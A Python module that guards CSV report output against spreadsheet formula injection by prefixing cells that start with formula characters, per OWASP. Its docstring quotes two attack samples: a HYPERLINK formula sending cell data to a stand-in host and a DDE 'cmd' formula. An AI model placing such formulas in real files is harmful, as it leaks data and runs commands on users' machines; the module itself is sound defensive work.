"""Every CSV we write for people goes through here: cells that a spreadsheet would run are
neutralised (CSV/formula injection, OWASP).

A rejected value such as ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` or
``=cmd|' /C calc'!A0`` comes from the member files; opened in Excel or LibreOffice,
a rejects report or a duplicates report would otherwise evaluate it. A text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
``'`` — what OWASP recommends: spreadsheets show the value as text, so ``-42.50``
stays readable as ``'-42.50`` (and a script reading the CSV strips one leading ``'``
with `original_cell`). Numbers written as numbers (not text) are left alone: they are
not formulas.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"


def safe_cell(value: object) -> object:
    """`value`, with a leading ``'`` if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return NEUTRALISER + value
    return value


def original_cell(text: str) -> str:
    """What `safe_cell` was given (for scripts that read our reports back)."""
    if text.startswith(NEUTRALISER) and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


class SafeCsvWriter:
    """`csv.writer` whose every cell passes through `safe_cell`."""

    def __init__(self, stream: SupportsWrite[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """`csv.DictWriter` whose every cell passes through `safe_cell`."""

    def __init__(
        self, stream: SupportsWrite[str], fieldnames: Sequence[str], **options: Any
    ) -> None:
        self._writer = csv.DictWriter(stream, fieldnames, **options)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, object]) -> None:
        self._writer.writerow({name: safe_cell(cell) for name, cell in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)
